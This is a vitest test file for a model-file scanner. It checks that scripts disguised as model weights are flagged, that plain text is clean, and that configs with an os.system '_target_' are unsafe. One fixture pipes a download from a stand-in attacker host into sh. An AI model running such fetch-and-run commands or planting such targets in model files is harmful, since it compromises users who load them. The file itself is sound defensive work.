import { describe, expect, it } from "vitest";
import { examineBytes, rulesOf } from "../testing/examine-bytes.ts";

describe("a script under a model's name", () => {
  it.each([
    ["#!/bin/sh\necho inert\n", "model.bin"],
    ["#!/usr/bin/env python3\nprint('inert')\n", "weights.safetensors"],
    ["curl https://attacker.example/x | sh\n", "pytorch_model.bin"],
    ["# weights\nset -e\nbash -c 'echo inert'\n", "model.gguf"],
    ["import os\nos.system('echo inert')\n", "model.pt"],
    ["@echo off\r\npowershell -c echo inert\r\n", "model.onnx"],
  ])("is for a person to look at: %j as %s", async (text, name) => {
    const report = await examineBytes(Buffer.from(text), name);
    expect(report.verdict).toBe("review");
    expect(rulesOf(report)).toContain("text/script-as-model");
  });

  it.each([
    ["#!/bin/sh\necho inert\n", "run.sh"],
    ["curl https://example.com\n", "README.md"],
    ["the 0.418 0.24968 -0.41242\nof 0.1 0.2 0.3\n", "vectors.bin"],
    ["shells and pythons are words\n", "vocab.bin"],
  ])("other text, and scripts under their own name, are none: %j as %s", async (text, name) => {
    expect((await examineBytes(Buffer.from(text), name)).verdict).toBe("clean");
  });
});

it("a harmful target is told once, by the reader that knows where it stands", async () => {
  const yaml = await examineBytes(
    Buffer.from("model:\n  _target_: os.system\n  command: echo inert\n"),
    "c.yaml",
  );
  expect(rulesOf(yaml)).toEqual(["huggingface-config/harmful-target"]);
  const json = await examineBytes(
    Buffer.from('{\n "_target_": "os.system", "command": "echo inert"}'),
    "c.json",
  );
  expect(rulesOf(json)).toEqual(["huggingface-config/harmful-target"]);
  const notes = await examineBytes(Buffer.from("Some words\n_target_: os.system\n"), "c.txt");
  expect(rulesOf(notes)).toEqual(["text/harmful-target"]);
  for (const one of [yaml, json, notes]) expect(one.verdict).toBe("unsafe");
});
